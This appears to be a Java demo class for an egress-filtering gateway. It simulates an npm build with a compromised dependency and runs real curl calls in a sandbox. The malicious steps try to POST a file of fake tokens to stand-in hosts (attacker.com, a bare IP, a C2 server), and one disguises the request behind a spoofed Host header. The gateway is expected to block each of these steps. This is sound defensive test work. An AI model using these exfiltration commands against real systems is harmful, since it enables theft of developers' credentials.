package io.tollgate.gateway.demo;

import io.tollgate.testbed.CommandResult;
import java.io.IOException;
import java.io.PrintWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * An npm build with a compromised dependency, as real curl calls in the runner namespace: the honest steps fetch
 * from allowlisted hosts, the malicious ones try to send secrets out by name, by bare IP, to a known C2 host and
 * over plain HTTP behind a borrowed Host header.
 */
final class SimulatedBuild {
    static final String EXFIL_HOST = "attacker.com";
    /** The fake internet's names (→ address) the build uses; the runner resolves them through its hosts file. */
    static final Map<String, String> HOSTS = Map.of(
            "registry.npmjs.org", "198.51.100.20",
            "github.com", "198.51.100.10",
            EXFIL_HOST, "198.51.100.66",
            "c2.evil.invalid", "203.0.113.77");
    /** A server with no name that the build calls by address alone. */
    static final String BARE_IP = "198.51.100.99";

    private static final Duration STEP_TIMEOUT = Duration.ofSeconds(20);
    private static final String FAKE_SECRETS = """
            NPM_TOKEN=npm_DemoFakeToken0000000000000000000000
            AWS_ACCESS_KEY_ID=AKIADEMOFAKEKEY00000
            GITHUB_TOKEN=ghs_DemoFakeToken000000000000000000000
            """;

    private final DemoSandbox sandbox;
    private final PrintWriter out;

    SimulatedBuild(DemoSandbox sandbox, PrintWriter out) {
        this.sandbox = sandbox;
        this.out = out;
    }

    /** The build's calls, in order; {@code secrets} is the file the malicious steps try to send. */
    static List<BuildStep> steps(Path secrets) {
        String upload = "@" + secrets;
        return List.of(
                step("npm install: download left-pad-1.3.0.tgz (registry.npmjs.org)", "registry.npmjs.org", 443,
                        "allow", "allowlisted", "https://registry.npmjs.org/bytes/4096"),
                step("compromised dependency's preinstall: POST secrets to " + EXFIL_HOST, EXFIL_HOST, 443,
                        "block", "not-allowlisted", "--data-binary", upload, "https://" + EXFIL_HOST + "/collect"),
                new BuildStep("the same script without DNS: POST secrets to " + BARE_IP, BARE_IP, BARE_IP, 443,
                        "block", "direct-ip", List.of("-k", "--data-binary", upload, "https://" + BARE_IP + "/")),
                step("dropper beacons to its C2 server c2.evil.invalid", "c2.evil.invalid", 443,
                        "block", "ioc", "https://c2.evil.invalid/beacon"),
                step("git fetch of the build's own repository from github.com", "github.com", 443,
                        "allow", "allowlisted", "https://github.com/"),
                step("plain-HTTP POST to " + EXFIL_HOST + " posing as 'Host: github.com'", EXFIL_HOST, 80,
                        "block", "port", "-H", "Host: github.com", "--data-binary", upload,
                        "http://" + EXFIL_HOST + "/upload"));
    }

    private static BuildStep step(String title, String host, int port, String verdict, String reason, String... args) {
        return new BuildStep(title, host, HOSTS.get(host), port, verdict, reason, List.of(args));
    }

    /** Runs every step in the runner namespace, printing one line per step as it finishes. */
    List<StepOutcome> run() throws IOException {
        Path secrets = Files.writeString(sandbox.file("fake-secrets.env"), FAKE_SECRETS);
        List<BuildStep> steps = steps(secrets);
        List<StepOutcome> outcomes = new ArrayList<>();
        for (int i = 0; i < steps.size(); i++) {
            BuildStep step = steps.get(i);
            out.printf("  %d/%d %-66s ", i + 1, steps.size(), step.title());
            out.flush();
            StepOutcome outcome = run(step);
            out.println((outcome.reached() ? "✔ allowed  " : "✖ blocked  ") + outcome.curlSays());
            outcomes.add(outcome);
        }
        return outcomes;
    }

    private StepOutcome run(BuildStep step) {
        List<String> argv = new ArrayList<>(List.of("curl", "-sS", "--max-time", "10",
                "--cacert", sandbox.caCertificate().toString(), "-o", "/dev/null",
                "-w", "HTTP %{http_code}, %{size_download} bytes"));
        argv.addAll(step.curlArgs());
        CommandResult result = sandbox.runInRunner(STEP_TIMEOUT, argv);
        if (result.succeeded()) {
            return new StepOutcome(step, true, result.stdout().strip());
        }
        String said = result.stderr().strip();
        return new StepOutcome(step, false, said.isEmpty() ? "curl exited with " + result.exitCode() : lastLine(said));
    }

    private static String lastLine(String text) {
        return text.substring(text.lastIndexOf('\n') + 1);
    }
}
